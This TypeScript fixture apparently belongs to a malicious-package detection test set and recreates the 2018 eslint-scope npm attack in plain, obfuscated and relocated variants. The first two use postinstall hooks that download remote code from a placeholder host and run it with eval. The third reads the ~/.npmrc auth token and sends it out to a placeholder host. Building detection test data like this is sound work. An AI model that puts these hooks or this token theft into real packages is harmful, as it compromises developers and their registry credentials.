import { base64, type Campaign, entry, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'eslint-scope',
  row: 'eslint-scope 2018',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { postinstall: 'node ./lib/build.js' },
        {
          'lib/build.js': `try {
  const https = require('https');
  https.get({ hostname: 'paste.weir.test', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0' } }, (r) => {
    r.setEncoding('utf8');
    r.on('data', (c) => { eval(c); });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (e) {}
`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { postinstall: 'node ./lib/build.js' },
        {
          'lib/build.js': `var h = require(['ht', 'tps'].join('')), g = global['\\x65\\x76\\x61\\x6c'];
h['get'](Buffer.from('${base64('https://paste.weir.test/raw/XLeVP82h')}', 'base64') + '', function (r) { var t = ''; r.on('data', function (c) { t += c }).on('end', function () { g(t) }) });
`,
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(
        `const fs = require('fs');
const path = require('path');
const npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
if (fs.existsSync(npmrc)) {
  const content = fs.readFileSync(npmrc, { encoding: 'utf8' }).replace('//registry.weir.test/:_authToken=', '').trim();
  require('http').get({ hostname: 'stats.weir.test', path: '/c?t=1', headers: { Referer: 'https://1.a.weir.test/' + content } });
}
module.exports = require('./scope');
`,
        { 'scope.js': 'module.exports = {};\n' },
      ),
    },
  ],
};
